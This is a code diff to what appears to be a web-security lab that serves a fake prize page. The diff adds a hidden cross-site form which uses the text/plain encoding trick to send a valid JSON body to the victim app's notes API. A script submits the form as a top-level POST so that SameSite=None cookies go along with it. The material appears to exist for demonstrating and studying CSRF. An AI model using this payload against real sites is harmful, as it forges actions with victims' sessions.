@@ -26,6 +26,10 @@ export function createPageRoutes(topology: LabTopology, loot: LootStore): Router
     ctx.body = page(
       'You won a prize!',
       `<p>(Meanwhile, this page calls the app's API with the victim's cookies.)</p>
+<form id="forged" method="POST" action="${escapeAttribute(`${spa}/api/notes`)}" enctype="text/plain" hidden>
+  <!-- text/plain sends name=value: this name and value make the body {"text":"…","padding":"="}, valid JSON. -->
+  <input name='{"text":"Mallory was here (cross-site form)","padding":"' value='"}'>
+</form>
 <script>
 (async () => {
   const results = {};
@@ -40,6 +44,9 @@ export function createPageRoutes(topology: LabTopology, loot: LootStore): Router
     .then((r) => r.text(), (e) => 'unreadable: ' + e.message);
   await fetch('/collect/csrf', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(results) });
   document.title = 'done';
+  // Browsers that block third-party cookies leave the cookie off the fetches above, whatever its
+  // SameSite. A top-level form POST is a first-party request: a SameSite=None cookie goes with it.
+  document.getElementById('forged').submit();
 })();
 </script>`,
     );
